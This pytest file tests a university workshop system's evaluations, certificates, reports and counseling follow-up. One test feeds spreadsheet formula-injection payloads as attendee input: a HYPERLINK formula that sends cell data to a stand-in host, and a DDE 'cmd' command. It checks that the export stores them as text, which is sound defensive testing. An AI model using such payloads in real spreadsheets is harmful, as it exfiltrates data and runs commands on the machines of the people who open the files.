"""Evaluation, certificates, the report and its follow-up (issue 12, items 8 and 9), on SQLite
and PostgreSQL: figures match the rows entered, the CLI prints them line by line, the XLSX
reads back, an evaluation is answered once, a certificate is numbered, verifiable and the same
at every download, reminders reach only non-responders once, and the follow-up opens each
career-counseling request once and invites students without an account by e-mail."""
from __future__ import annotations

import re
from datetime import datetime, timedelta, timezone
from io import BytesIO

import pytest

from app.extensions import db
from tests.conftest import db_fingerprint

STARTS = datetime(2026, 11, 20, 2, 0, tzinfo=timezone.utc)
AFTER = STARTS + timedelta(days=1)


def values_for(procedure) -> dict:
    """A value for every case field of a procedure (whatever its YAML names them)."""
    sample = {"datetime": "2026-11-01T09:00", "date": "2026-11-01", "number": 1, "boolean": True}
    return {f.key: (f.options[0] if f.type == "choice" else sample.get(f.type, "Panitia workshop"))
            for f in procedure.fields}


def make_workshop(make_user, head=None, title="Workshop Minat Bakat 2026"):
    from app.sop.registry import get_procedure
    from app.sop.services import open_case
    from app.workshops.models import Workshop

    head = head or make_user("head", name="Kepala P2KLLK")
    procedure = get_procedure("pgri-minat-bakat")
    case = open_case(procedure, head, values_for(procedure))
    workshop = Workshop(case=case, title=title, starts_at=STARTS, ends_at=STARTS + timedelta(hours=4), capacity=50,
                        venue="Aula Utama", theme="Mengenal Diri", registration_open=True, created_by_id=head.id)
    db.session.add(workshop)
    db.session.commit()
    return workshop, head


def program(code, name):
    from app.workshops.models import StudyProgram

    row = StudyProgram(code=code, name=name)
    db.session.add(row)
    db.session.flush()
    return row


def register(workshop, nim, prodi, semester, status="confirmed", attended=False, email=None, name=None):
    from app.workshops.models import Registration, RegistrationStatus

    row = Registration(workshop_id=workshop.id, nim=nim, name=name or f"Mahasiswa {nim}", program_id=prodi.id,
                       semester=semester, email=email or f"m{nim}@kampus.test", whatsapp="081234567890",
                       status=RegistrationStatus(status), confirmed_at=STARTS - timedelta(days=3),
                       checked_in_at=STARTS + timedelta(minutes=10) if attended else None)
    db.session.add(row)
    db.session.flush()
    return row


def evaluate(registration, ratings=(5, 4, 3), wants=False, interests=None):
    from app.workshops.evaluations import submit_evaluation

    answers = dict(zip(("materi", "narasumber", "penyelenggaraan"), ratings))
    return submit_evaluation(registration, answers, interests, None, wants, now=AFTER)


@pytest.fixture
def edition(app, make_user):
    """Two prodi: PMAT semester 3 (3 seats, 2 present, 1 answered), PBI semester 5 (2 seats,
    both present and answered, 1 waiting), one cancelled."""
    workshop, head = make_workshop(make_user)
    pmat, pbi = program("PMAT", "Pendidikan Matematika"), program("PBI", "Pendidikan Bahasa Inggris")
    a = register(workshop, "2301", pmat, 3, attended=True)
    register(workshop, "2302", pmat, 3, attended=True)
    register(workshop, "2303", pmat, 3)
    b = register(workshop, "2101", pbi, 5, attended=True)
    c = register(workshop, "2102", pbi, 5, attended=True)
    register(workshop, "2103", pbi, 5, status="waiting")
    register(workshop, "2104", pbi, 5, status="cancelled")
    evaluate(a, (5, 4, 3), wants=True, interests="Desain grafis")
    evaluate(b, (4, 4, 5))
    evaluate(c, (3, 5, 4), wants=True)
    db.session.commit()
    return workshop, head


EXPECTED_LINES = [
    "confirmed\t5", "waiting\t1", "attended\t4", "evaluated\t3",
    "prodi\tPBI\tconfirmed\t2", "prodi\tPBI\twaiting\t1", "prodi\tPBI\tattended\t2", "prodi\tPBI\tevaluated\t2",
    "prodi\tPMAT\tconfirmed\t3", "prodi\tPMAT\twaiting\t0", "prodi\tPMAT\tattended\t2", "prodi\tPMAT\tevaluated\t1",
    "semester\t3\tconfirmed\t3", "semester\t3\twaiting\t0", "semester\t3\tattended\t2", "semester\t3\tevaluated\t1",
    "semester\t5\tconfirmed\t2", "semester\t5\twaiting\t1", "semester\t5\tattended\t2", "semester\t5\tevaluated\t2",
]


def test_figures_match_the_rows_and_the_cli_prints_them(app, edition, tmp_path):
    from openpyxl import load_workbook

    from app.workshops.reports import figures

    workshop, _head = edition
    data = figures(workshop)
    assert [q.average for q in data.questions] == [4.0, 4.33, 4.0]
    assert data.questions[0].distribution == {1: 0, 2: 0, 3: 1, 4: 1, 5: 1}
    assert [e.registration.nim for e in data.follow_up] == ["2102", "2301"]  # by name
    target = tmp_path / "laporan.xlsx"
    result = app.test_cli_runner().invoke(args=["workshops", "report", str(workshop.id), "--xlsx", str(target)])
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == EXPECTED_LINES
    book = load_workbook(target)
    assert [c.value for c in book["Ringkasan"][2]] == [workshop.title, 5, 1, 4, 3]
    assert book["Per prodi"]["A2"].value.startswith("PBI") and book["Per prodi"]["D3"].value == 2
    assert book["Jawaban"].max_row == 4
    missing = app.test_cli_runner().invoke(args=["workshops", "report", "999999"])
    assert missing.exit_code == 1


def test_report_page_shows_the_figures_in_constant_queries(app, edition, login_as, sql):
    from app.workshops.models import StudyProgram

    workshop, _head = edition
    client, _me = login_as("staff")
    with sql() as ran:
        page = client.get(f"/workshops/{workshop.id}/report")
    more = program("PGSD", "PGSD")
    for n in range(20):
        evaluate(register(workshop, f"24{n:02d}", more, 5, attended=True), wants=n % 2 == 0)
    db.session.commit()
    with sql() as again:
        assert client.get(f"/workshops/{workshop.id}/report").status_code == 200
    assert len(again) == len(ran)
    body = page.get_data(as_text=True)
    assert page.status_code == 200
    assert re.search(r'data-figure="confirmed">5<', body) and re.search(r'data-figure="attended">4<', body)
    assert 'data-average="narasumber">4,33<' in body and "<svg" in body
    assert db.session.scalar(db.select(StudyProgram.id).where(StudyProgram.code == "PGSD"))
    assert client.get(f"/workshops/{workshop.id}/report.xlsx").headers["Content-Type"].startswith(
        "application/vnd.openxmlformats")


def test_evaluation_is_answered_once_and_earns_one_verifiable_certificate(app, make_user):
    from pypdf import PdfReader

    from app.documents.models import Letter
    from app.workshops.models import Evaluation

    workshop, _head = make_workshop(make_user)
    prodi = program("PMAT", "Pendidikan Matematika")
    present = register(workshop, "2301", prodi, 3, attended=True, name="Ayu Lestari")
    absent = register(workshop, "2302", prodi, 3)
    db.session.commit()
    client = app.test_client()
    assert client.get(f"/workshops/evaluate/{present.ticket}/certificate.pdf").status_code == 303  # answer first
    form = {"materi": "5", "narasumber": "4", "penyelenggaraan": "5", "interests": "Menulis", "wants_counseling": "y"}
    assert client.get(f"/workshops/evaluate/{present.ticket}").status_code == 200
    assert client.submit(f"/workshops/evaluate/{present.ticket}", form).status_code == 303
    again = client.submit(f"/workshops/evaluate/{present.ticket}", {**form, "materi": "1"})
    assert again.status_code == 422 and "sudah diisi" in again.get_data(as_text=True)
    stored = db.session.scalars(db.select(Evaluation)).all()
    assert len(stored) == 1 and stored[0].ratings == {"materi": 5, "narasumber": 4, "penyelenggaraan": 5}
    assert stored[0].wants_counseling is True
    refused = client.submit(f"/workshops/evaluate/{absent.ticket}", form)
    assert refused.status_code == 422 and "hadir" in refused.get_data(as_text=True)
    assert client.get("/workshops/evaluate/tidak-ada").status_code == 404

    first = client.get(f"/workshops/evaluate/{present.ticket}/certificate.pdf")
    second = client.get(f"/workshops/evaluate/{present.ticket}/certificate.pdf")
    assert first.status_code == 200 and first.mimetype == "application/pdf"
    assert first.data == second.data
    letters = db.session.scalars(db.select(Letter).where(Letter.doc_type == "sertifikat")).all()
    assert len(letters) == 1
    letter = letters[0]
    assert re.fullmatch(r"0001/SERT/[A-Z0-9]+/2026", letter.number)
    text = PdfReader(BytesIO(first.data)).pages[0].extract_text()
    assert "Ayu Lestari" in text and "2301" in text and workshop.title in text and letter.number in text
    verify = client.get(f"/verify/{letter.verify_code}")
    assert verify.status_code == 200 and letter.number in verify.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Evaluation, stored[0].id).certificate_letter_id == letter.id
    # given to the attendee, not listed among the edition's letters on its case page
    head = app.test_client()
    assert head.submit("/login", {"email": _head.email, "password": "rahasia123"}).status_code == 302
    case_page = head.get(f"/cases/{workshop.case_id}")
    assert case_page.status_code == 200 and letter.number not in case_page.get_data(as_text=True)


def test_reminder_reaches_only_non_responders_once(app, edition, login_as):
    from app.notifications.models import OutboxMessage
    from app.workshops.evaluations import non_responders, remind_non_responders, send_due_evaluation_links

    workshop, _head = edition
    assert [r.nim for r in non_responders(workshop)] == ["2302"]
    assert send_due_evaluation_links(AFTER) == {"evaluation_links": 1}
    assert send_due_evaluation_links(AFTER) == {"evaluation_links": 0}
    assert remind_non_responders(workshop, AFTER) == 1
    assert remind_non_responders(workshop, AFTER) == 0
    db.session.commit()
    client, _me = login_as("head")
    assert client.submit(f"/workshops/{workshop.id}/evaluations/remind").status_code == 303
    messages = sorted(db.session.scalars(db.select(OutboxMessage)).all(), key=lambda m: len(m.key))
    assert [(m.key.split(":")[0], m.recipient) for m in messages] == [
        ("workshop-evaluation", "m2302@kampus.test"), ("workshop-evaluation-reminder", "m2302@kampus.test")]
    assert "/workshops/evaluate/" in messages[0].body


def test_follow_up_opens_each_request_once_and_invites_new_students(app, edition, login_as, make_user, smtp_server):
    from app.notifications.services import deliver_due
    from app.sop.models import Case
    from app.workshops.models import Evaluation, Registration

    workshop, _head = edition
    has_account = make_user("student", email="m2102@kampus.test", name="Mahasiswa 2102")
    client, _me = login_as("head")
    page = client.get(f"/workshops/{workshop.id}/report").get_data(as_text=True)
    assert "Buat 2 permohonan konseling karier" in page
    assert client.submit(f"/workshops/{workshop.id}/follow-up").status_code == 303
    assert client.submit(f"/workshops/{workshop.id}/follow-up").status_code == 303  # a second click: nothing new
    cases = db.session.scalars(db.select(Case).where(Case.code == "pgri-konseling-karier").order_by(Case.id)).all()
    assert len(cases) == 2
    subjects = {c.subject.email for c in cases}
    assert subjects == {"m2301@kampus.test", "m2102@kampus.test"}
    assert all(c.subject.has_role("student") for c in cases)
    follow = db.session.scalars(db.select(Evaluation).join(Registration).where(Evaluation.wants_counseling)).all()
    assert sorted(e.follow_up_case_id for e in follow) == [c.id for c in cases]
    assert next(c for c in cases if c.subject_id == has_account.id)
    deliver_due(datetime.now(timezone.utc) + timedelta(minutes=1))
    db.session.commit()
    invite = [m for m in smtp_server.to("m2301@kampus.test") if "/account/setup/" in m.get_body().get_content()]
    assert len(invite) == 1
    assert not [m for m in smtp_server.to("m2102@kampus.test") if "/account/setup/" in m.get_body().get_content()]
    # the staff of the committee who is not P2KLLK may not do it
    member, _m = login_as("committee")
    assert member.submit(f"/workshops/{workshop.id}/follow-up").status_code == 404


def test_report_is_saved_and_submitted_as_a_numbered_letter(app, edition, login_as):
    from app.documents.models import Letter
    from app.workshops.models import CommitteeMember, CommitteeRole, Workshop

    workshop, _head = edition
    client, me = login_as("committee")
    db.session.add(CommitteeMember(workshop_id=workshop.id, user_id=me.id, role=CommitteeRole.SECRETARY))
    db.session.commit()
    page = client.get(f"/workshops/{workshop.id}/report").get_data(as_text=True)
    assert "hadir 4" in page  # the draft text comes from the data
    assert client.submit(f"/workshops/{workshop.id}/report", {"report": ""}).status_code == 422
    assert client.submit(f"/workshops/{workshop.id}/report", {"report": "Laporan kami."}).status_code == 303
    db.session.expire_all()
    assert db.session.get(Workshop, workshop.id).report == "Laporan kami."
    assert client.submit(f"/workshops/{workshop.id}/report/submit", {"report": "Laporan final."}).status_code == 303
    letters = db.session.scalars(db.select(Letter).where(Letter.doc_type == "laporan_kegiatan")).all()
    assert len(letters) == 1 and letters[0].step_key == "laporan" and letters[0].case_id == workshop.case_id
    assert "LAP-KEG" in letters[0].number
    assert client.submit(f"/workshops/{workshop.id}/report/submit", {"report": "Laporan final 2."}).status_code == 303
    versions = db.session.scalars(db.select(Letter).where(Letter.doc_type == "laporan_kegiatan")
                                  .order_by(Letter.version)).all()
    assert [v.version for v in versions] == [1, 2] and versions[0].number == versions[1].number
    outsider, _o = login_as("committee")  # a committee role without a seat on this committee
    assert outsider.get(f"/workshops/{workshop.id}/report").status_code == 404


def test_career_counseling_takes_a_student_only_as_a_referral(app, make_user):
    from app.errors import DomainError
    from app.sop.registry import get_procedure
    from app.sop.services import open_case

    procedure = get_procedure("pgri-konseling-karier")
    student, staff, counselor = make_user("student"), make_user("staff"), make_user("counselor")
    values = {"nim": "1", "prodi": "P", "phone": "0812", "question": "Q", "mode": "online"}
    with pytest.raises(DomainError):
        open_case(procedure, staff, values, subject=student)  # not as an ordinary request
    with pytest.raises(DomainError):
        open_case(procedure, counselor, values, subject=student, referral=True)  # counselors do not refer
    assert open_case(procedure, staff, values, subject=student, referral=True).subject_id == student.id


def test_submitting_at_the_report_step_completes_it(app, edition, login_as):
    """While the case waits at its report step, a committee member's submission completes it and
    the engine issues the laporan kegiatan."""
    from app.documents.models import Letter
    from app.sop.models import Case, CaseStep, StepState
    from app.sop.services import skip_to
    from app.workshops.models import CommitteeMember, CommitteeRole

    workshop, _head = edition
    client, me = login_as("committee")
    db.session.add(CommitteeMember(workshop_id=workshop.id, user_id=me.id, role=CommitteeRole.CHAIR))
    report = skip_to(db.session.get(Case, workshop.case_id), "laporan")  # the edition has come this far
    db.session.commit()
    assert client.submit(f"/workshops/{workshop.id}/report/submit", {"report": "Laporan akhir."}).status_code == 303
    db.session.expire_all()
    row = db.session.get(CaseStep, report.id)
    assert row.state == StepState.DONE and row.done_by_id == me.id and row.data["report"] == "Laporan akhir."
    letters = db.session.scalars(db.select(Letter).where(Letter.doc_type == "laporan_kegiatan")).all()
    assert len(letters) == 1 and letters[0].step_key == "laporan"


def test_what_people_typed_stays_text_in_the_spreadsheet(app, make_user):
    """A name or answer starting with = + - @ is written as text, never as a formula."""
    from openpyxl import load_workbook

    from app.workshops.reports import figures, to_xlsx

    workshop, _head = make_workshop(make_user, title="=1+1 Workshop")
    attendee = register(workshop, "2301", program("PMAT", "Pendidikan Matematika"), 3, attended=True,
                        name='=HYPERLINK("http://evil.test/?"&A1,"x")')
    evaluate(attendee, interests='=cmd|" /C calc"!A0')
    db.session.commit()
    book = load_workbook(BytesIO(to_xlsx(figures(workshop))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells}
    assert "=1+1 Workshop" in texts and '=HYPERLINK("http://evil.test/?"&A1,"x")' in texts


def test_a_report_waits_for_the_workshop_to_take_place(app, make_user, login_as):
    workshop, head = make_workshop(make_user)
    workshop.starts_at = datetime(2031, 3, 1, 2, tzinfo=timezone.utc)
    db.session.commit()
    client, _me = login_as("head")
    page = client.get(f"/workshops/{workshop.id}/report").get_data(as_text=True)
    assert "Ajukan laporan (PDF)" not in page and "setelah workshop berlangsung" in page
    before = db_fingerprint()
    refused = client.submit(f"/workshops/{workshop.id}/report/submit", {"report": "Laporan terlalu awal."})
    assert refused.status_code == 422 and "setelah workshop berlangsung" in refused.get_data(as_text=True)
    assert db_fingerprint() == before
